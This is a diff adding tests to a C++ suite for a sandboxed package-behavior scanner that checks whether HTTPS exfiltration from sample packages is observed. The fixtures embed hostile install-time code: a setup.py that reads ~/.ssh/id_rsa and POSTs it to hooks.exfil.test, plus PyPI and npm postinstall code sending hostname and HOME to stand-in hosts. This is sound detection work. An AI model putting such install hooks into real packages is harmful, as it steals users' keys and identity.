@@ -5,6 +5,8 @@
 // it carried, the programs started, from the phase they happened in.
 #include <gtest/gtest.h>
 
+#include <map>
+
 #include <nlohmann/json.hpp>
 
 #include "adapters/scanners/behavior.h"
@@ -307,6 +309,73 @@ TEST_F(BehaviorReal, a_native_package_whose_build_fails_without_a_compiler_does_
   }
 }
 
+// HTTPS is read in the clear: the sink's TLS server answers with a certificate of this run's
+// authority, which Python's ssl (urllib), requests (certifi's bundle, as Debian links it) and
+// Node (NODE_EXTRA_CA_CERTS) trust in the room — the key posted to a webhook over TLS is seen
+// with the key in it, and the request's line and Host.
+TEST_F(BehaviorReal, a_key_posted_over_https_by_urllib_requests_and_node_is_read_in_the_clear) {
+  BATLEHUB_NEED_BWRAP();
+  const std::string pre =
+      "import os, urllib.request, requests, socket\n"
+      "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+      "urllib.request.urlopen(urllib.request.Request('https://hooks.exfil.test/k', data=key.encode(), "
+      "method='POST'), timeout=5)\n"
+      "requests.post('https://api.exfil.test/i', json={'host': socket.gethostname(), 'home': "
+      "os.path.expanduser('~')}, timeout=5)\n";
+  json t = detonate(
+      "pypi", behavior_sdist("tlssend", {file("setup.py", behavior_setup_py("tlssend", pre)),
+                                         file("tlssend/__init__.py", "")}));
+  ASSERT_TRUE(t.contains("events"));
+  std::map<std::string, json> by_host;
+  for (const json& e : events(t, "stream", "install")) by_host[e.at("host")] = e;
+  ASSERT_TRUE(by_host.contains("hooks.exfil.test")) << t.dump(1);
+  const json& hook = by_host["hooks.exfil.test"];
+  EXPECT_EQ(hook.at("protocol"), "https");
+  EXPECT_EQ(hook.at("port"), 443);
+  EXPECT_EQ(hook.at("request_line"), "POST /k HTTP/1.1");
+  EXPECT_EQ(hook.value("canary", false), true) << "the key, read in the clear";
+  ASSERT_TRUE(by_host.contains("api.exfil.test")) << t.dump(1);
+  const json& api = by_host["api.exfil.test"];
+  EXPECT_EQ(api.at("protocol"), "https");
+  EXPECT_EQ(api.at("request_line"), "POST /i HTTP/1.1");
+  EXPECT_EQ(api.value("identity", false), true) << "the host's name and HOME, in the JSON body: " << api.dump();
+  EXPECT_EQ(t.at("phases")[1].value("exit_code", -1), 0) << "the posts were answered: the install went on";
+
+  const std::string pj = R"({"name":"tlsnode","version":"1.0.0","scripts":{"postinstall":
+    "node -e \"const r = require('https').request({host: 'collect.exfil.test', method: 'POST', path: '/n'}, (s) => s.resume()); r.end(require('os').hostname() + ' ' + process.env.HOME)\""}})";
+  json n = detonate("npm", behavior_npm_package({file("package.json", pj), file("index.js", "module.exports = 1;\n")}));
+  ASSERT_TRUE(n.contains("events"));
+  auto sent = events(n, "stream", "install");
+  ASSERT_EQ(sent.size(), 1U) << n.dump(1);
+  EXPECT_EQ(sent[0].at("protocol"), "https");
+  EXPECT_EQ(sent[0].at("host"), "collect.exfil.test");
+  EXPECT_EQ(sent[0].at("request_line"), "POST /n HTTP/1.1");
+  EXPECT_EQ(sent[0].value("identity", false), true) << sent[0].dump();
+}
+
+// A client that brings its own trust (here: none at all) refuses the sink's certificate: the
+// stream says it was TLS, the name it asked for and why it ended, and carries nothing more.
+TEST_F(BehaviorReal, a_client_that_trusts_only_its_own_roots_refuses_the_handshake_and_the_stream_says_so) {
+  BATLEHUB_NEED_BWRAP();
+  const std::string init =
+      "import socket, ssl\n"
+      "ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\n"
+      "try:\n"
+      "    ctx.wrap_socket(socket.create_connection(('pinned.exfil.test', 443), timeout=5), "
+      "server_hostname='pinned.exfil.test').sendall(b'never')\n"
+      "except ssl.SSLError as e:\n"
+      "    print('refused', e)\n";
+  json t = detonate("pypi", behavior_sdist("pinned", {file("setup.py", behavior_setup_py("pinned", "")),
+                                                      file("pinned/__init__.py", init)}));
+  ASSERT_TRUE(t.contains("events"));
+  auto streams = events(t, "stream", "import");
+  ASSERT_EQ(streams.size(), 1U) << t.dump(1);
+  EXPECT_EQ(streams[0].at("protocol"), "tls");
+  EXPECT_EQ(streams[0].at("host"), "pinned.exfil.test");
+  EXPECT_EQ(streams[0].value("bytes", 1), 0) << "nothing was read in the clear";
+  EXPECT_EQ(streams[0].value("what", "").rfind("tls: the handshake: ", 0), 0U) << streams[0].dump();
+}
+
 // Issue 47's hostile packages (hostile_packages.h) through the scanner, as the worker runs
 // it: each finding with its severity and its evidence, and none for a native build that fails
 // or an ordinary package. The same list runs on podman, docker and Kubernetes.
@@ -355,8 +424,8 @@ TEST_F(BehaviorReal, the_probe_s_self_check_passes_with_the_observer_and_names_a
   ASSERT_TRUE(missed);
   EXPECT_EQ(*missed,
             "the detonation's observer did not see the shell it started, its read of the decoy SSH key, the name it "
-            "asked, its connection, the key's canary in what it sent (a helper's exec, decoy read, DNS query and "
-            "connection, in the room)");
+            "asked, its connection, the key's canary in what it sent, the canary in what it sent over HTTPS (a "
+            "helper's exec, decoy read, DNS query and connection, in the room)");
 }
 
 }  // namespace
